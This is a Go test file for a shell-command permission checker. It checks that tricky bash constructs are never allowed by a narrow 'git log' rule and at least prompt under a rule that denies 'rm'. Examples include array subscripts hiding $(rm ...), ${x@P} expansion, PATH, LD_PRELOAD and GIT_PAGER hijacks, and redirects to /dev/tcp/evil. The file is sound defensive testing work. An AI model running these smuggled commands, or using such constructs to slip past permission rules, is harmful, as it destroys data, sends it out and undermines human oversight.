package permissions

import (
	"testing"

	"github.com/stretchr/testify/require"
)

func TestWhatAShellEvaluatesIsNeverAllowedByANarrowRule(t *testing.T) {
	t.Parallel()
	for _, c := range []string{
		"for x in '$(rm -rf y)'; do git log ${x@P}; done", "for x in 'a[$(rm -rf y)]'; do git log $((x)); done",
		"for x in y; do git log; done", "for x; do git log; done", "select x in y; do git log; done",
		"for PATH in /tmp/evil; do git log; done", "for GIT_PAGER in 'sh -c evil'; do git log; done",
		"git log ${!x}", "git log ${HOME:x}", "git log ${z:0:x}", "git log ${z[x]}", "git log $[x]", "git log $((x))", "git log ${x@P}", "git log ${x@Q}",
		"git log \"${x@P}\"", "git log <<E\n${x@P}\nE", "git log <<E\n$((x))\nE", "git log <<< ${x@P}", "git log ${NODE_OPTIONS:=x}", "git log ${GIT_PAGER:=x}",
		"git log ${x:=y}", "git log ${x=y}", "git log > /dev/null${x@P}", "git log ${a:-${x@P}}", "git log ${a/x/${x@P}}",
		"for ((i=0; i<2; i++)); do git log; done", "git log $((1+x))", "git log $(($x))", "git log $((x=1))", "((x)); git log", "let x; git log",
		"git log ${#z[x]}", "git log ${z[$x]}", "git log ${z['x']}", "case ${x@P} in a) git log;; esac", "case a in ${x@P}) git log;; esac",
		"a[x]=1; git log", "a=([x]=1); git log", "f() { git log ${x@P}; }", "[[ x -eq 0 ]] && git log", "[[ -v x ]] && git log", "coproc git log", "coproc { git log; }", "coproc N { git log; }",
		"{ git log; } &", "(git log) &", "git log && git log &", "git log < /dev/tcp/evil/80", "git log > /dev/tcp/evil/80", "git log 2> /dev/udp/evil/80", "git log <> /dev/tcp/evil/80",
	} {
		require.Equal(t, Ask, sh(t, allow("execute(git log*)"), c).Effect, "%q", c)
	}
	for _, c := range []string{
		"git log ${x}", "git log ${x:-y}", "git log ${#x}", "git log ${x%y}", "git log ${x[@]}", "git log ${x[0]}", "git log ${x:0:7}", "git log -$((1 + 2))",
		"while git log; do git log; done", "git log ${!x*}", "git log $#", "git log -$(($# + 1))",
	} {
		require.Equal(t, Allow, sh(t, allow("execute(git log*)"), c).Effect, "%q", c)
	}
}

func TestWhatAShellEvaluatesAtLeastAsks(t *testing.T) {
	t.Parallel()
	for _, c := range []string{
		"x='$(rm y)'; echo ${x@P}", "x='a[$(rm y)]'; echo $((x))", "x='a[$(rm y)]'; echo ${z[x]}", "x=y; echo ${!x}", "x='a[$(rm y)]'; echo ${z:x}",
		"x='a[$(rm y)]'; echo $[x]", "x='a[$(rm y)]'; ((x))", "x='a[$(rm y)]'; let x", "for ((i=x;;)); do :; done", "[[ 'a[$(rm y)]' -eq 0 ]]", "[[ $x -lt 3 ]]",
		"[[ -v 'a[$(rm y)]' ]]", "[[ -R $x ]]", "declare 'a[$(rm y)]=1'", "export $x", "declare -i x='a[$(rm y)]'", "local -n x=y", "typeset 'a[$(rm y)]=1'",
		"cat <<E\n${x@P}\nE", "for PATH in /tmp/evil; do git log; done", "PATH=/tmp/evil git log", "export LD_PRELOAD=x; ls", "echo ${NODE_OPTIONS:=x}; node x", "GIT_PAGER='sh -c evil' git log",
		"declare \"PATH=x\"; ls", "PS4='$(rm y)'; set -x; ls", "env PATH=/tmp ls", "env 'GIT_SSH_COMMAND=rm y' git fetch", "sudo LD_PRELOAD=x ls",
		"test -v 'a[$(rm y)]'", "[ -v 'a[$(rm y)]' ]", "[ -v $x ]", "test ! -R 'a[$(rm y)]'", "printf -v 'a[$(rm y)]' x", "printf \"-va[\\$(rm y)]\" x", "printf -v $x y", "\"let\" 'a[$(rm y)]'",
		"command let x", "builtin declare 'a[$(rm y)]=1'", "\\declare 'a[$(rm y)]=1'", "command export 'a[$(rm y)]=1'", "builtin typeset -i x=y", "read 'a[$(rm y)]' <<< x", "read $x", "unset 'a[$(rm y)]'",
		"compgen -C 'rm x'", "compgen -W '$(rm x)'", "complete -C 'rm x' y", "mapfile -C 'rm x' -c 1 y", "readarray -c1 -C'rm x' y", "mapfile 'a[$(rm y)]'", "enable -f ./x.so y", "hash -p /tmp/evil git", "bind -x '\"a\": rm x'",
		"getopts ab 'x[$(rm y)]'", "wait -p 'a[$(rm y)]'", "fc -s rm", "xargs let", "jobs -x rm x",
	} {
		requireAtLeastAskCommand(t, deny("execute(rm *)"), "execute(rm *)", c)
	}
}

func TestHarmlessEvaluationIsNotAskedAbout(t *testing.T) {
	t.Parallel()
	for _, c := range []string{
		"for i in 1 2; do echo $i; done", "x=1; echo ${x:-y}", "echo $((1 + 2))", "[ -v x ]", "[ $x -eq 1 ]", "test -f x", "[[ -n $x ]]", "[[ $# -gt 1 ]]", "printf '%s' $x", "printf '[%s]' x",
		"read x y", "unset x", "export A=1", "declare -r A=1", "CGO_ENABLED=0 go build", "echo ${x[@]}", "mapfile -t x", "hash -r", "wait", "coproc ls", "enable",
	} {
		require.Equal(t, Allow, sh(t, deny("execute(rm *)"), c).Effect, "%q", c)
	}
}
